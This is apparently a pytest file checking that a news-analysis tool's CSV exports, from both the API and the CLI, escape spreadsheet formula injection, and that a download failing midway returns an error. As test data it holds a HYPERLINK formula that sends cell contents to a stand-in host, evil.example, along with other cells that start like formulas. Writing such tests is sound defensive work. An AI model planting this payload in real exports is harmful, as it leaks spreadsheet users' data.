"""CSV downloads cannot attack a spreadsheet, and a failed download is an error, not a cut file."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from sitrep.api.app import create_app
from sitrep.records import Claim, Document, Place, Quote
from sitrep.store.export import spreadsheet_safe
from tests.api.conftest import LOCAL, assert_error, plain_doc, span

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
RAW = (
    "Leak desk bulletin (csv fixture).\n\n"
    '"-2+3 is what they lost," said @Pierre Formula near Valparaiso.\n\n'
    "Officials said =1+1 were wounded, 12 of them soldiers.\n"
)


def formula_doc() -> Document:
    doc = plain_doc(RAW, "csv-formula", "+Evil Wire", "2024-07-01")
    doc.source.title = LINK
    doc.quotes = [Quote(speaker="@Pierre Formula", text="-2+3 is what they lost",
                        evidence=span(RAW, '"-2+3 is what they lost," said @Pierre Formula'),
                        date="2024-07-01", confidence=0.7, rule="fixture")]
    doc.claims = [Claim(claimant="\tTab Office", subject="-Otherland", metric="wounded",
                        low=12, high=12, evidence=span(RAW, "12 of them soldiers"),
                        date="2024-07-01", confidence=0.6, rule="fixture")]
    ev = span(RAW, "Valparaiso")
    doc.places = [Place(mention="Valparaiso", start=ev.start, end=ev.end, name="\rValparaiso",
                        lat=-33.05, lon=-71.62, kind="city", country="CL")]
    return doc


@pytest.fixture(scope="module")
def formula_store(tmp_path_factory: pytest.TempPathFactory) -> str:
    from sitrep.store.db import Store

    url = f"sqlite:///{tmp_path_factory.mktemp('csv') / 'sitrep.db'}"
    store = Store(url)
    store.upsert(formula_doc())
    store.dispose()
    return url


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def read_csv(path: Path) -> str:
    with path.open(encoding="utf-8", newline="") as f:  # a CR inside a cell stays a CR
        return f.read()


@pytest.mark.parametrize("value,shown", [
    ("=1+1", "'=1+1"), ("+44 20", "'+44 20"), ("-Otherland", "'-Otherland"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tTab", "'\tTab"), ("\rCR", "'\rCR"), ("Kyiv", "Kyiv"), ("", ""), (" =1", " =1"),
    (-33.05, -33.05), (-12, -12), (None, None),
])
def test_a_text_cell_that_starts_like_a_formula_gets_a_quote(value, shown) -> None:
    assert spreadsheet_safe(value) == shown


def test_the_api_download_escapes_formula_cells(formula_store: str) -> None:
    with TestClient(create_app(formula_store, token=""), base_url=LOCAL) as c:
        (quote,) = rows(c.get("/api/quotes.csv").text)
        (claim,) = rows(c.get("/api/claims.csv").text)
        (place,) = rows(c.get("/api/places.csv").text)
    assert quote["document_title"] == "'" + LINK
    assert quote["document_publisher"] == "'+Evil Wire"
    assert quote["speaker"] == "'@Pierre Formula" and quote["text"] == "'-2+3 is what they lost"
    assert claim["claimant"] == "'\tTab Office" and claim["subject"] == "'-Otherland"
    assert place["name"] == "'\rValparaiso"
    # numbers stay numbers: a negative coordinate is not text
    assert (place["lat"], place["lon"]) == ("-33.05", "-71.62")
    assert float(claim["low"]) == 12


def test_the_cli_export_escapes_formula_cells(formula_store: str, tmp_path: Path) -> None:
    from sitrep.cli import app

    out = tmp_path / "quotes.csv"
    res = CliRunner().invoke(app, ["export", "--format", "csv", "--kind", "quotes",
                                   "--db", formula_store, "-o", str(out)])
    assert res.exit_code == 0, res.output
    (quote,) = rows(read_csv(out))
    assert quote["speaker"] == "'@Pierre Formula" and quote["text"] == "'-2+3 is what they lost"
    assert quote["publisher"] == "'+Evil Wire"
    res = CliRunner().invoke(app, ["export", "--format", "csv", "--kind", "places",
                                   "--db", formula_store, "-o", str(out)])
    (place,) = rows(read_csv(out))
    assert place["name"] == "'\rValparaiso" and place["lon"] == "-71.62"


def test_a_download_that_fails_midway_is_an_error_not_a_cut_file(formula_store: str,
                                                                 monkeypatch) -> None:
    from sqlalchemy.exc import OperationalError

    from sitrep.store import queries

    real = queries.iter_facts

    def failing(*args, **kwargs) -> Iterator[dict]:
        yield next(real(*args, **kwargs))  # one row out, then the store fails
        raise OperationalError("SELECT ...", {}, Exception("disk I/O error"))

    monkeypatch.setattr(queries, "iter_facts", failing)
    with TestClient(create_app(formula_store, token=""), base_url=LOCAL,
                    raise_server_exceptions=False) as c:
        resp = c.get("/api/quotes.csv")
    assert_error(resp, 500)
    assert not resp.headers["content-type"].startswith("text/csv")
